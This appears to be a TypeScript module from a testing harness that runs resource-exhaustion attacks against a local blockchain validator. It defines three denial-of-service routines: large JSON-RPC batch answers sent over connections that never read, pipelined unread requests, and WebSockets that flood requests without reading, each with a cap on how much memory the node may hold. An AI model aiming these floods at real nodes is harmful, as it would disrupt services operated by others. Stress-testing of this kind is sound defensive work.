import { connect, type Socket } from 'node:net'
import { ADDRESS } from '../processes/addresses.ts'
import { batch, single } from '../processes/http-flood.ts'
import { openSocket } from '../processes/socket-flood.ts'
import { type Attack, paced, type Stage } from './attack.ts'

/** Answers of about 24 MB: the largest that a node makes. */
const CALLS = 100

/**
 * A node holds 256 MiB for clients that do not read: each answer as text, and again as bytes while it is written, plus garbage that is not
 * collected yet.
 */
const HELD_MB_MAX = 650

const largeBatch = ({ prepared: { largeTransaction } }: Stage): string =>
  batch(CALLS, 'eth_getTransactionByHash', () => [largeTransaction])

/** A connection that sends and never reads: the kernel's buffers fill first, then the node must keep the rest. */
function deaf(port: number, { signal, tally }: Stage): Socket {
  const socket = connect({ host: '127.0.0.1', port, localAddress: ADDRESS.attacker })
  socket.pause()
  socket.on('error', (failure: NodeJS.ErrnoException) => {
    if (!signal.aborted) tally.add(failure.code ?? 'broken')
  })
  socket.on('close', () => {
    if (!signal.aborted) tally.add('closed by the node')
  })
  return socket
}

const post = (body: string): string =>
  `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`

export const unreadAttacks: readonly Attack[] = [
  {
    name: 'answers that nobody reads',
    what: `10 new connections a second to a validator, each with one batch whose answer has ${CALLS * 240} kB, which nobody reads`,
    front: 'lifted',
    inShort: true,
    growthMbMax: HELD_MB_MAX,
    prepare: async (stage) => {
      const request = post(largeBatch(stage))
      return () =>
        paced(10, stage.signal, () => {
          const socket = deaf(stage.targets[0]!.rpcPort, stage)
          socket.on('connect', () => {
            stage.tally.add('batches sent')
            socket.write(request)
          })
        })
    },
  },
  {
    name: 'pipelined requests whose answers nobody reads',
    what: '20 connections to a validator, each with requests for 240 kB behind each other, as many as the node takes, none read',
    front: 'lifted',
    growthMbMax: HELD_MB_MAX,
    prepare: async (stage) => {
      const request = post(single('eth_getTransactionByHash', [stage.prepared.largeTransaction]))
      return () => {
        const sockets = Array.from({ length: 20 }, () => deaf(stage.targets[0]!.rpcPort, stage))
        return paced(1_000, stage.signal, (i) => {
          const socket = sockets[i % sockets.length]!
          if (socket.writable && socket.writableLength < 65_536) {
            stage.tally.add('requests sent')
            socket.write(request)
          }
        })
      }
    },
  },
  {
    name: 'answers over WebSockets that nobody reads',
    what: '20 WebSockets to a validator, each asks for 240 kB 50 times a second and never reads',
    front: 'lifted',
    growthMbMax: HELD_MB_MAX,
    prepare: async (stage) => {
      const text = single('eth_getTransactionByHash', [stage.prepared.largeTransaction])
      return async () => {
        const sockets = await Promise.all(Array.from({ length: 20 }, () => openSocket(stage, stage.targets[0]!.rpcPort)))
        for (const socket of sockets) socket?.pause()
        await paced(1_000, stage.signal, (i) => sockets[i % sockets.length]?.send(text, 'calls sent'))
      }
    },
  },
]
